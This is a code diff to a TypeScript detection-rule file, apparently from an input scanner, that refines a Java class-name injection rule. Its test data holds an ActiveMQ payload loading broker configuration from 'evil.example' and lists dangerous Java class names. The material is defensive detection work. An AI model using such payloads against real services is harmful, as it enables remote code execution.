@@ -1,11 +1,23 @@
-import { pattern, type Rule, type Span } from '../rule/rule.ts'
+import { type PatternRule, pattern, type Rule, type Span } from '../rule/rule.ts'
 import { CHAR } from '../value/features.ts'
 import type { Reading } from '../value/reading.ts'
 import { WORD } from '../value/words.ts'
 
 /** Where reports of errors and traces name the class that code ran in. */
 const NAMED_CLASS =
-  /(?:^|[._-])(?:module|type|class(?:_?name)?|logger|exception|package|namespace|function|error|cause|caused_?by|component|source|frame|filename|abs_path|culprit|transaction|mechanism|scope|kind|qualified_?name)$/
+  /(?:^|[._-])(?:module|type|(?:main_?|start_?)?class(?:_?name)?|signature|logger|exception|package|namespace|function|error|cause|caused_?by|component|source|frame|filename|abs_path|culprit|transaction|mechanism|scope|kind|qualified_?name)$/
+
+/**
+ * The rule, but for what a document names with small letters alone: a package, as builds and lists of
+ * components write it. Classes have capitals, and are not found under another spelling.
+ */
+function unlessPackage(rule: PatternRule): PatternRule {
+  return {
+    ...rule,
+    find: (reading, parts) =>
+      reading.standsIn === 'body' && !/[A-Z]/.test(reading.text) ? undefined : rule.find(reading, parts),
+  }
+}
 
 /** An address of a directory under a name that says that it is looked up there. */
 function findNamedLookup({ name, lower }: Reading): Span | undefined {
@@ -37,29 +49,31 @@ export const javaRules: readonly Rule[] = [
     attacks: ['static:(vm://x?brokerConfig=xbean:http://evil.example/a.xml)'],
     benign: ['xbean:activemq.xml', 'xbean:file:conf/activemq.xml', 'vm://localhost'],
   }),
-  pattern(
-    'java/class-name',
-    /^\s{0,4}(?!javax\.faces\.(?:viewstate|partial|source|behavior|clientwindow|renderkitid|encodedurl|resource)|org\.apache\.struts\.taglib)(?:\w[\w.-]{0,40}\s{0,2}[=:]\s{0,2})?["'(]{0,2}(?:javax?\.(?:io|lang|script|naming|rmi|management|runtime|process\w{0,12}|beans|faces|el)|java\.runtime|javassist|com\.(?:opensymphony|sun\.(?:org|rowset|jndi|jmx))|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|catalina|logging|xbean|velocity|shiro|log4j|bcel)|springframework|omg|hibernate|codehaus|jboss|mozilla\.javascript|python\.core)|sun\.(?:misc|reflect|rmi))(?!\.[\w.$]{0,80}(?:exception|error|thread)\b)(?:\.[\w$]{1,48}){0,8}["')]{0,2}(?:\s{0,2}=\s{0,2}\w{0,24})?\s{0,4}$/,
-    {
-      score: 5,
-      atStart: true,
-      unlessNamed: NAMED_CLASS,
-      words: WORD.java,
-      attacks: [
-        'java.lang.Runtime',
-        'java.io.FileOutputStream',
-        'com.opensymphony.xwork2',
-        'test=java.Runtime',
-        'org.apache.commons',
-      ],
-      benign: [
-        'java lang courses',
-        'javascript',
-        'java.com',
-        'com.example.app',
-        'I like java.lang.String very much',
-      ],
-    },
+  unlessPackage(
+    pattern(
+      'java/class-name',
+      /^\s{0,4}(?!javax\.faces\.(?:viewstate|partial|source|behavior|clientwindow|renderkitid|encodedurl|resource)|org\.apache\.struts\.taglib)(?:\w[\w.-]{0,40}\s{0,2}[=:]\s{0,2})?["'(]{0,2}(?:javax?\.(?:io|lang|script|naming|rmi|management|runtime|process\w{0,12}|beans|faces|el)|java\.runtime|javassist|com\.(?:opensymphony|sun\.(?:org|rowset|jndi|jmx))|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|catalina|logging|xbean|velocity|shiro|log4j|bcel)|springframework|omg|hibernate|codehaus|jboss|mozilla\.javascript|python\.core)|sun\.(?:misc|reflect|rmi))(?!\.[\w.$]{0,80}(?:exception|error|thread)\b)(?:\.[\w$]{1,48}){0,8}["')]{0,2}(?:\s{0,2}=\s{0,2}\w{0,24})?\s{0,4}$/,
+      {
+        score: 5,
+        atStart: true,
+        unlessNamed: NAMED_CLASS,
+        words: WORD.java,
+        attacks: [
+          'java.lang.Runtime',
+          'java.io.FileOutputStream',
+          'com.opensymphony.xwork2',
+          'test=java.Runtime',
+          'org.apache.commons',
+        ],
+        benign: [
+          'java lang courses',
+          'javascript',
+          'java.com',
+          'com.example.app',
+          'I like java.lang.String very much',
+        ],
+      },
+    ),
   ),
   pattern(
     'java/runtime',
